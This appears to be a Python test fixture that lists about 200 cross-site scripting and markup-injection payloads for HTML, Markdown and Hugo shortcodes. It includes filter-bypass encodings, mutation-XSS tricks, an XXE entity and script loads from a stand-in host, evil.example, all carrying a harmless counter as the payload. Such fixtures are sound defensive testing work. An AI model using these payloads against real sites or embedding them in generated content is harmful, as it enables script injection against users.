"""HTML and Markdown that attack a reader."""

from __future__ import annotations

CODE = "top.ran=(top.ran||0)+1"


EVIL = "https://evil.example"


_ATTACKS = r"""
<script>CODE</script>
<ScRiPt>CODE</sCrIpT>
<script/x>CODE</script>
<script >CODE</script >
<script src=data:,CODE></script>
<script src="EVIL/a.js"></script>
<script type=module>CODE</script>
<scr<script>ipt>CODE</scr</script>ipt>
<<script>CODE//<</script>
<script>CODE
</script><script>CODE</script>
"><script>CODE</script>
'><script>CODE</script>
--><script>CODE</script>
]]><script>CODE</script>
<![CDATA[<script>CODE</script>]]>
</title><script>CODE</script>
</style><script>CODE</script>
</textarea><script>CODE</script>
</noscript><script>CODE</script>
</iframe><script>CODE</script>
</pre></code><script>CODE</script>
<noscript><p title="</noscript><img src=x onerror=CODE>">
<img src=x onerror=CODE>
<img src=x onerror="CODE">
<img src=x onerror='CODE'//
<img/src=x/onerror=CODE>
<img src=x:x onerror	=	CODE>
<IMG SRC=x OnErRoR=CODE>
<img src onerror=CODE>
<img srcset=x onerror=CODE>
<img srcset="EVIL/s.png 2x" src=x onerror=CODE>
<img alt="`><script>CODE</script>">
<img src=`x`onerror=CODE>
<img src="x` `<script>CODE</script>"` `>
"><img src=x onerror=CODE>
' onerror='CODE' src='x
" onerror="CODE" src="x
" autofocus onfocus="CODE" tabindex="1
" onmouseover="CODE
x onerror=CODE y
<svg onload=CODE>
<svg/onload=CODE>
<svg><script>CODE</script></svg>
<svg><script href="data:,CODE"></script>
<svg><animate onbegin=CODE attributeName=x dur=1s>
<svg><set onbegin=CODE attributeName=x>
<svg><a xlink:href="javascript:CODE"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><image href='x' onerror='CODE'/></svg>#x">
<svg><style><img src=x onerror=CODE></style>
<svg><title><img src=x onerror=CODE></title></svg>
<svg><foreignObject><img src=x onerror=CODE></foreignObject></svg>
<svg></p><style><a id="</style><img src=x onerror=CODE>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">
<math><mi//xlink:href="javascript:CODE">x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=CODE></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>
<table><td><svg><desc><td><title><img src=x onerror=CODE></title></desc></svg></td></table>
<body onload=CODE>
<body onpageshow=CODE>
<html onmousemove=CODE>
<iframe src="javascript:CODE"></iframe>
<iframe srcdoc="<script>CODE</script>"></iframe>
<iframe src="data:text/html,<script>CODE</script>"></iframe>
<iframe onload=CODE></iframe>
<iframe src="EVIL/frame" onload=CODE>
<frameset onload=CODE><frame src="javascript:CODE"></frameset>
<object data="javascript:CODE"></object>
<object data="data:text/html,<script>CODE</script>"></object>
<object onerror=CODE data=x></object>
<embed src="javascript:CODE">
<embed src="data:image/svg+xml,<svg onload=CODE>">
<video src=x onerror=CODE></video>
<video><source onerror=CODE></video>
<video poster="javascript:CODE"></video>
<audio src=x onerror=CODE></audio>
<audio onloadstart=CODE src=x></audio>
<details open ontoggle=CODE>
<marquee onstart=CODE>x</marquee>
<input autofocus onfocus=CODE>
<select autofocus onfocus=CODE>
<textarea autofocus onfocus=CODE>
<keygen autofocus onfocus=CODE>
<button autofocus onfocus=CODE>x</button>
<a autofocus tabindex=1 onfocus=CODE>x</a>
<div contenteditable autofocus onfocus=CODE>x</div>
<dialog open onclose=CODE>x</dialog>
<form action="javascript:CODE"><button>x</button></form>
<form><button formaction="javascript:CODE">x</button></form>
<form id=f></form><button form=f formaction="javascript:CODE">x</button>
<input type=image src=x onerror=CODE>
<isindex type=image src=x onerror=CODE>
<link rel=stylesheet href="EVIL/a.css" onload=CODE onerror=CODE>
<link rel=import href="data:text/html,<script>CODE</script>">
<link rel=preload as=image href=EVIL/p.png onerror=CODE>
<meta http-equiv=refresh content="0;url=javascript:CODE">
<meta http-equiv=refresh content="0;url=EVIL/r">
<meta http-equiv=Content-Security-Policy content="img-src *">
<base href="javascript:/x/"><a href="CODE">x</a>
<base href="EVIL/">
<style>@import 'EVIL/i.css';</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=CODE>x</p>
<p style="animation:x 1s" onanimationend=CODE onanimationstart=CODE>x</p>
<p style="background:url(EVIL/b.png)">x</p>
<p style="background:url('javascript:CODE')">x</p>
<p style="width:expression(CODE)">x</p>
<p style="-moz-binding:url(EVIL/x.xml#x)">x</p>
<p style="behavior:url(EVIL/x.htc)">x</p>
<p style="position:fixed;inset:0;z-index:9">x</p>
<a href="javascript:CODE">x</a>
<a href="JaVaScRiPt:CODE">x</a>
<a href=" javascript:CODE">x</a>
<a href="java	script:CODE">x</a>
<a href="java&#10;script:CODE">x</a>
<a href="&#106;avascript:CODE">x</a>
<a href="&#x6A;avascript&colon;CODE">x</a>
<a href="javascript&#0058;CODE">x</a>
<a href="&#1;javascript:CODE">x</a>
<a href="javascript://%0aCODE">x</a>
<a href="data:text/html,<script>CODE</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=">x</a>
<a href="vbscript:CODE">x</a>
<a href="view-source:javascript:CODE">x</a>
<a href="blob:CODE">x</a>
<a href="feed:javascript:CODE">x</a>
<a href=x onclick=CODE>x</a>
<a href="x" target="_top" onmouseover="CODE">x</a>
<a href="x" ping="EVIL/ping">x</a>
<area href="javascript:CODE" shape=default>
<map name=m><area href="javascript:CODE"></map><img usemap=#m src=x>
[x](javascript:CODE)
[x](  javascript:CODE)
[x](<javascript:CODE>)
[x](JaVaScRiPt:CODE "title")
[x](java%0ascript:CODE)
[x](javascript&colon;CODE)
[x](&#106;avascript:CODE)
[x](data:text/html,<script>CODE</script>)
[x](vbscript:CODE)
![x](javascript:CODE)
![x"onerror="CODE](x)
![x](x"onerror="CODE)
![x](x 'a"onerror="CODE')
[x](x 'a" onmouseover="CODE')
[x](x "a&quot; onmouseover=&quot;CODE")
[x]: javascript:CODE
[x][x]
<javascript:CODE>
<https://example.org/"onmouseover="CODE>
https://example.org/"onmouseover="CODE
https://example.org/<img src=x onerror=CODE>
*[x]: "><img src=x onerror=CODE>
[^x]: <img src=x onerror=CODE>
[^"onmouseover=CODE]
# x {onclick=CODE}
# x {: onclick="CODE" }
x{: onclick="CODE" style="background:url(EVIL/c)" }
![x](x){: onerror="CODE" }
[x](x){: href="javascript:CODE" }
``` {onclick=CODE}
```html"onmouseover="CODE
```<script>CODE</script>
`<script>CODE</script>`
~~~ <script>CODE</script>
| <script>CODE</script> | x |
- [ ] <img src=x onerror=CODE>
> <script>CODE</script>
{{< figure src="javascript:CODE" link="javascript:CODE" caption="<img src=x onerror=CODE>" >}}
{{< figure src="x" alt='"><script>CODE</script>' title="<script>CODE</script>" >}}
{{< youtube "><script>CODE</script>" >}}
{{< gist x" onmouseover="CODE x >}}
{{< details "<img src=x onerror=CODE>" >}}x{{< /details >}}
{{< highlight "html<script>CODE</script>" >}}</code></pre><script>CODE</script>{{< /highlight >}}
{% raw %}<script>CODE</script>{% endraw %}
{{ "<script>CODE</script>" | url }}
{{ constructor.constructor('CODE')() }}
${CODE}
&lt;script&gt;CODE&lt;/script&gt;
&amp;lt;img src=x onerror=CODE&amp;gt;
&#60;script&#62;CODE&#60;/script&#62;
\u003cscript\u003eCODE\u003c/script\u003e
%3Cscript%3ECODE%3C/script%3E
+ADw-script+AD4-CODE+ADw-/script+AD4-
＜script＞CODE＜/script＞
<?xml version="1.0"?><?xml-stylesheet href="javascript:CODE"?>
<?php echo "<script>CODE</script>" ?>
<!--><script>CODE</script>-->
<!--[if gte IE 4]><script>CODE</script><![endif]-->
<!-- --!><img src=x onerror=CODE> -->
<!DOCTYPE x [<!ENTITY y SYSTEM "EVIL/x">]><x>&y;</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">CODE</x:script>
<custom-element onclick=CODE autofocus tabindex=1 onfocus=CODE>x</custom-element>
<template><script>CODE</script></template>
<div><template shadowrootmode=open><img src=x onerror=CODE></template></div>
<slot onslotchange=CODE>x</slot>
<plaintext><script>CODE</script>
<xmp><img src=x onerror=CODE></xmp>
<listing>&lt;img src=x onerror=CODE></listing>
<noembed><img src=x onerror=CODE></noembed>
<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\u0061lert(1)</script x>
<picture><source srcset="javascript:CODE"><img src=x onerror=CODE></picture>
<portal src="javascript:CODE" onload=CODE></portal>
<fencedframe src="javascript:CODE"></fencedframe>
<bgsound src="javascript:CODE">
<layer src="EVIL/x.js"></layer>
<applet code="javascript:CODE"></applet>
<img src=x name=getElementById><form name=body><input name=firstChild></form>
<a id=top href="x"></a><a id=ran name=ran></a>
"""


ATTACKS = tuple(
    line.replace("CODE", CODE).replace("EVIL", EVIL) for line in _ATTACKS.strip().split("\n")
)
